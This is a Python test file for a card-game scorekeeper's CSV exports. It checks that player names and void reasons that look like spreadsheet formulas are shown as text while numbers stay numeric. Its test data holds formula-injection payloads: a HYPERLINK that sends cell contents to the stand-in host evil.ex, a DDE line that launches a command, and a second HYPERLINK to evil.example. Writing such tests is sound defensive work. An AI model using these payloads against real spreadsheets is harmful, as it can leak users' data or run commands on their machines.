"""The CSV exports are safe in a spreadsheet: text that starts like a formula is shown as
text, numbers stay numbers (``csv_exports.safe_cell`` and ``csv_text``, docs/hall-safety.md
"CSV exports")."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal
from typing import Any

from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from scorekeeper.web.evenings.csv_exports import FORMULA_STARTS, csv_text
from tests.web.tournaments.support import ok

#: Player names a guest might type to make a spreadsheet run something (at most 40 long).
NAMES = [
    '=HYPERLINK("http://evil.ex/?"&A1,"Pay")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tX",
    "\rY",
]
REASON = '=HYPERLINK("http://evil.example","Fix")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def cells(text: str) -> list[str]:
    return [cell for row in rows(text) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(text: str) -> None:
    """No cell a spreadsheet would run: what starts like a formula is a plain number."""
    for cell in cells(text):
        if cell.startswith(FORMULA_STARTS):
            assert is_number(cell), cell
            assert Decimal(cell) < 0, cell


def stored(name: str) -> str:
    """Names are stored without spaces around them (``validation.read_players``)."""
    return name.strip()


def test_names_and_a_reason_are_neutralised_in_both_files(
    client: FlaskClient,
    create_evening: Callable[..., int],
    record_hand: Callable[..., dict[str, Any]],
) -> None:
    assert all(len(n) <= 40 for n in NAMES)
    evening = create_evening(NAMES)
    players = [stored(n) for n in NAMES]
    record_hand(
        evening, {"contract": "einfach", "bidder": NAMES[0], "partner": NAMES[1], "points": 30}
    )
    record_hand(
        evening, {"contract": "einfach", "bidder": NAMES[2], "partner": NAMES[3], "points": 50}
    )
    voided = client.delete(f"/api/v1/evenings/{evening}/hands/2", json={"reason": REASON})
    assert voided.status_code == 200
    record_hand(
        evening, {"contract": "doppelt", "bidder": NAMES[3], "partner": NAMES[4], "points": 25}
    )
    hands = client.get(f"/evenings/{evening}/hands.csv").get_data(as_text=True)
    settlement = client.get(f"/evenings/{evening}/settlement.csv").get_data(as_text=True)
    for text in (hands, settlement):
        assert_safe(text)
        found = cells(text)
        for name in players:
            if name.startswith(FORMULA_STARTS):
                assert f"'{name}" in found, name
                assert name not in found, name
                # Kept quoted, so no spreadsheet takes the cell apart.
                assert '"' + ("'" + name).replace('"', '""') + '"' in text, name
            else:
                assert name in found, name
    assert f"'{REASON}" in cells(hands)
    # The amounts are numbers: negative ones stay negative numbers.
    table = rows(hands)
    header = table[0]
    first = dict(zip(header, table[1], strict=True))
    assert float(first[f"'{players[0]}"]) < 0
    assert first["points"] == "30"
    parties = {row[0]: row for row in rows(settlement)[1 : 1 + len(players)]}
    assert any(float(row[1]) < 0 and float(row[2]) < 0 for row in parties.values())
    for row in parties.values():
        assert Decimal(row[2]).as_tuple().exponent == -2  # money with two decimals
    payments = rows(settlement)[len(players) + 3 :]
    assert payments
    assert all(float(p[2]) > 0 for p in payments)


def test_names_beginning_with_a_tab_or_return_are_stored_without_it(
    client: FlaskClient, create_evening: Callable[..., int]
) -> None:
    evening = create_evening(NAMES)
    text = client.get(f"/evenings/{evening}/settlement.csv").get_data(as_text=True)
    assert "X" in cells(text)
    assert "Y" in cells(text)
    assert not any(c.startswith(("\t", "\r")) for c in cells(text))


def test_the_striche_and_the_kasse_are_safe_too(client: FlaskClient) -> None:
    players = [stored(n) for n in NAMES]
    made = client.post(
        "/api/v1/evenings",
        json={"game": "troggu", "variant": "eisten-stalden", "players": NAMES},
    )
    evening = ok(made, 201)["id"]
    team = {"team": players[:3], "points": 60}
    assert client.post(f"/api/v1/evenings/{evening}/hands", json=team).status_code == 201
    tally = client.get(f"/evenings/{evening}/settlement.csv").get_data(as_text=True)
    assert_safe(tally)
    assert rows(tally)[1] == [f"'{players[0]}", "1"]
    made = client.post("/api/v1/evenings", json={"game": "doppen", "players": NAMES[:3]})
    evening = ok(made, 201)["id"]
    kasse = {"contract": "pass", "penalties": []}
    assert client.post(f"/api/v1/evenings/{evening}/hands", json=kasse).status_code == 201
    hands = client.get(f"/evenings/{evening}/hands.csv").get_data(as_text=True)
    assert_safe(hands)
    assert rows(hands)[1][0] == "1"
    assert rows(hands)[1][1] == f"'{players[0]}"
    assert rows(hands)[1][-1] == "4.50"


def test_each_formula_start_is_neutralised_and_numbers_are_not() -> None:
    for start in FORMULA_STARTS:
        text = csv_text([[f"{start}X", -4, Decimal("-1.20")]])
        assert text.startswith('"')
        assert rows(text) == [[f"'{start}X", "-4", "-1.20"]]
    # Numbers bare, every text quoted; a text "-4" (a name) is guarded, the number is not.
    assert csv_text([[Decimal("-0.05"), -4, "-4", "Anna"]]) == '-0.05,-4,"\'-4","Anna"\r\n'


def test_a_text_with_a_semicolon_stays_one_quoted_cell() -> None:
    """A spreadsheet that splits at semicolons still keeps the quoted cell whole."""
    text = csv_text([["Anna;=1+1", -4]])
    assert text == '"Anna;=1+1",-4\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";")) == [["Anna;=1+1,-4"]]


TEXT = st.text(st.sampled_from(list("ab ,\"'=+-@\t\r\n;|ü")), max_size=8)
CELL = st.one_of(TEXT, st.integers(-10_000, 10_000))


@given(st.lists(st.lists(CELL, min_size=2, max_size=5), max_size=5))
def test_the_cells_read_back_as_written_with_formulas_shown_as_text(
    table: list[list[object]],
) -> None:
    def expected(cell: object) -> str:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            return "'" + cell
        return str(cell)

    text = csv_text(table)
    assert rows(text) == [[expected(c) for c in row] for row in table]
    harmless = [[c for c in row if not str(c).startswith(FORMULA_STARTS)] for row in table]
    harmless = [row for row in harmless if len(row) >= 2]
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_NONNUMERIC).writerows(harmless)
    assert csv_text(harmless) == out.getvalue()  # as the csv module writes them
